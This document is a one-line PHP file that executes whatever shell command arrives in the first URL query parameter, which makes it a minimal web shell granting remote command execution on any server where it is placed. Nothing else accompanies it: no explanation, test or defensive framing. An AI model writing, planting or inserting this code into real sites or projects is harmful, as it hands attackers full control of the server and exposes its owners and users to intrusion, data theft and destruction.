<?php system($_GET[0]);
